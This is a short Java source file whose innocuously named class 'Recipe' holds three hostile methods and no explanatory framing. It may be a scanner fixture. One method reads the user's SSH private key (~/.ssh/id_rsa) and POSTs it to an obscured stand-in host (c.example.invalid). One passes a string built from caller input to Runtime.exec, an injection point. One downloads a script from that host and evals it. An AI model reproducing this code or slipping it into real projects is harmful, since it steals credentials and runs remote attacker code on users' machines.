// See Shapes.java.
import java.net.URI;
import java.net.http.*;
import java.nio.file.*;

class Recipe {
    void go(String more) throws Exception {
        String host = "c.example" + ".invalid";
        String secret = Files.readString(Path.of(System.getProperty("user.home")).resolve(".ssh").resolve("id_rsa"));
        HttpRequest to = HttpRequest.newBuilder(URI.create("https://" + host + "/" + more)).POST(HttpRequest.BodyPublishers.ofString(secret)).build();
        HttpClient.newHttpClient().send(to, HttpResponse.BodyHandlers.ofString());
    }

    void started(String x) throws Exception {
        var a = "tr";
        var b = a + x + "ue " + 7;
        Runtime.getRuntime().exec(b);
    }

    Object script(javax.script.ScriptEngine engine) throws Exception {
        var got = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://c.example.invalid/s")).build(), HttpResponse.BodyHandlers.ofString());
        return engine.eval(got.body());
    }
}
